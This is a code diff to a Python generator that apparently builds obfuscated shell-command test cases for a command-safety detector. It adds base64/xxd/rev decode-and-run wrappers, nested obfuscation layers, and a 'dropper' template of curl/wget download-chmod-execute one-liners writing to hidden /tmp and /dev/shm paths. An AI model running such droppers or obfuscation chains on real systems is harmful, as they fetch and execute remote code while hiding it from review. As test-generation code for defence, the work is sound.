@@ -171,9 +171,19 @@ def _dq(cmd):
     return '"' + cmd.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$").replace("`", "\\`") + '"'
 
 
+BASHISMS = ("<<<", "$'", "<(", ">&", "&>", "/dev/tcp", "/dev/udp", "${IFS}", "shopt", "\\x", "echo -e")
+
+
+def _sh(w, cmd, pool):
+    """A shell from `pool` that can run `cmd`: dash (sh on Debian) lacks bash's syntax."""
+    if any(b in cmd for b in BASHISMS):
+        pool = [p for p in pool if "bash" in p] or ["bash"]
+    return w.choice(pool)
+
+
 def base64_run(w, cmd):
     e = b64(cmd)
-    sh = w.choice(["sh", "bash", "/bin/sh", "/bin/bash", "bash -s"])
+    sh = _sh(w, cmd, ["sh", "bash", "/bin/sh", "/bin/bash", "bash -s"])
     dec = w.choice(["base64 -d", "base64 --decode", "base64 -di", "openssl base64 -d -A"])
     return w.choice([
         f"echo {e} | {dec} | {sh}",
@@ -187,7 +197,7 @@ def base64_run(w, cmd):
 
 def xxd_run(w, cmd):
     e = hexlify(cmd)
-    sh = w.choice(["sh", "bash", "/bin/bash"])
+    sh = _sh(w, cmd, ["sh", "bash", "/bin/bash"])
     return w.choice([
         f"echo {e} | xxd -r -p | {sh}",
         f"xxd -r -p <<< {e} | {sh}",
@@ -198,7 +208,7 @@ def xxd_run(w, cmd):
 
 def rev_run(w, cmd):
     r = cmd[::-1]
-    sh = w.choice(["sh", "bash", "/bin/sh"])
+    sh = _sh(w, cmd, ["sh", "bash", "/bin/sh"])
     return w.choice([
         f"echo {_sq(r)} | rev | {sh}",
         f"rev <<< {_sq(r)} | {sh}",
@@ -208,13 +218,13 @@ def rev_run(w, cmd):
 
 
 def here_string_run(w, cmd):
-    sh = w.choice(["bash", "sh", "bash -s", "/bin/bash"])
+    sh = _sh(w, cmd, ["bash", "sh", "bash -s", "/bin/bash"])
     form = w.randint(0, 2)
     if form == 0:
         return f"{sh} <<< {_sq(cmd)}"
     if form == 1:
         return f"{sh} <<< {_dq(cmd)}"
-    return f"python3 <<< {_sq('import os; os.system(' + repr(cmd) + ')')}"
+    return f"python3 <<< {_sq('import subprocess; subprocess.run([' + repr('bash') + ', ' + repr('-c') + ', ' + repr(cmd) + '])')}"
 
 
 def heredoc_run(w, cmd):
@@ -223,10 +233,10 @@ def heredoc_run(w, cmd):
     if form == 0:
         return f"bash <<'{tag}'\n{cmd}\n{tag}"
     if form == 1:
-        return f"sh -s <<'{tag}'\n{cmd}\n{tag}"
+        return f"{_sh(w, cmd, ['sh', 'bash'])} -s <<'{tag}'\n{cmd}\n{tag}"
     if form == 2:
         return f"cat <<'{tag}' | bash\n{cmd}\n{tag}"
-    return f"python3 - <<'{tag}'\nimport subprocess\nsubprocess.run({cmd!r}, shell=True)\n{tag}"
+    return f"python3 - <<'{tag}'\nimport subprocess\nsubprocess.run(['bash', '-c', {cmd!r}])\n{tag}"
 
 
 def eval_run(w, cmd):
@@ -262,6 +272,22 @@ DECODE_WRAPPERS = {
 }
 
 
+def nested_run(w, cmd, depth=None):
+    """Two or three decode wrappers inside each other (base64 of rev of xxd ...)."""
+    depth = depth or w.randint(2, 3)
+    layers = ["base64_pipe_sh", "xxd_hex", "rev", "eval_subst", "base64_pipe_sh"]
+    for _ in range(depth):
+        cmd = DECODE_WRAPPERS[w.choice(layers)](w, cmd)
+    return cmd
+
+
+def stacked_run(w, template):
+    """A word-level disguise, then the result encoded and run (disguise inside the decode)."""
+    name = w.choice(["quotes_in_words", "backslashes", "var_split_join", "printf_escapes"])
+    inner = WORD_TECHNIQUES[name](w, template)
+    return DECODE_WRAPPERS[w.choice(["base64_pipe_sh", "xxd_hex", "rev", "eval_subst"])](w, inner), name
+
+
 # ----- remote and undecodable ---------------------------------------------------------------
 
 def remote_url(w):
@@ -291,6 +317,20 @@ def eval_remote(w):
     u, bad = remote_url(w)
     return w.choice([f"eval \"$(curl -fsSL {u})\"", f"curl -s {u} | source /dev/stdin",
                      f"eval \"$(wget -qO- {u})\"", f"wget -qO- {u} | . /dev/stdin"]), bad
+
+
+def dropper(w):
+    u, bad = remote_url(w)
+    f = w.choice(["/tmp/.x", f"/tmp/.{w.label()}", "/dev/shm/k", f"/var/tmp/{w.label()}", "./.cache/upd", "$HOME/.local/bin/helper"])
+    return w.choice([
+        f"curl -so {f} {u} && chmod +x {f} && {f}",
+        f"wget -qO {f} {u}; chmod 755 {f}; {f} &",
+        f"curl -fsSL {u} -o {f} && bash {f}",
+        f"curl -s {u} > {f}; sh {f}; rm -f {f}",
+        f"python3 <(curl -s {u})",
+        f"curl -sL {u} | tar xz -C /tmp && /tmp/{w.label()}/run",
+        f"wget -q {u} -O- > {f} && chmod u+x {f} && nohup {f} >/dev/null 2>&1 &",
+    ]), bad
 
 
 def undecodable(w):
@@ -350,6 +390,17 @@ def _decoded(name):
     return make
 
 
+def _nested(w, i):
+    inn = P.inner(w)
+    return {"steps": [nested_run(w, inn["cmd"])], "expect": E.decoded(inn["expect"]), "variant": inn["kind"]}
+
+
+def _stacked(w, i):
+    inn = P.inner(w)
+    cmd, name = stacked_run(w, inn["template"])
+    return {"steps": [cmd], "expect": E.decoded(inn["expect"]), "variant": f"{name}/{inn['kind']}"}
+
+
 def _remote(fn, variant):
     def make(w, i):
         cmd, bad = fn(w)
@@ -387,6 +438,9 @@ TECHNIQUES = [
     ("source_stdin", _source_any),
     ("bash_procsub_curl", _remote(procsub_run, "procsub")),
     ("curl_pipe_sh", _remote(curl_sh, "pipe")),
+    ("download_chmod_exec", _remote(dropper, "dropper")),
+    ("nested_decoding", _nested),
+    ("disguise_inside_decoding", _stacked),
     ("undecodable_to_interpreter", lambda w, i: {"steps": [undecodable(w)], "expect": E.OBFUSCATED, "variant": "undecodable"}),
 ]
 FAMILY = "shell_obfuscation"
